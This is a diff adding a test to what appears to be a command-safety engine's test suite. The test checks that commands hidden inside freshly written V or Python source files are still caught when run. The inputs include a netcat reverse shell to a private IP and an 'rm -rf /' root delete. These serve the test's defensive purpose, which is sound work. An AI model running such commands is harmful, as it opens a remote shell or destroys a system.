@@ -72,4 +72,20 @@ describe('code made at run time', () => {
       expect({ command, action: exec(command).action }).toEqual({ command, action: 'warn' });
     }
   });
+  it('follows the command lines that source written earlier hands to the OS when an interpreter or a `run` subcommand runs it', () => {
+    // Written in two steps (`>` then `>>`), run by a compiler the engine does not otherwise know.
+    expect(reasons(`echo 'import os' > /tmp/t.v && echo 'fn main() { os.system("nc -e sh 10.0.0.7 9001") }' >> /tmp/t.v && v run /tmp/t.v`)).toContain(
+      'nc -e hands a shell to the network',
+    );
+    expect(reasons(`echo 'import os; os.system("rm -rf /")' > x.py; python3 x.py`)).toContain('recursive delete of the root filesystem');
+    // Harmless calls, or a file only read and never run.
+    for (const command of [
+      `echo 'print(1)' > x.py; python3 x.py`,
+      `echo 'system("make")' > x.pl && perl x.pl`,
+      `echo 'os.system("rm -rf /")' > notes.txt; cat notes.txt`,
+    ]) {
+      const v = exec(command);
+      expect({ command, action: v.action }).toEqual({ command, action: 'warn' });
+    }
+  });
 });
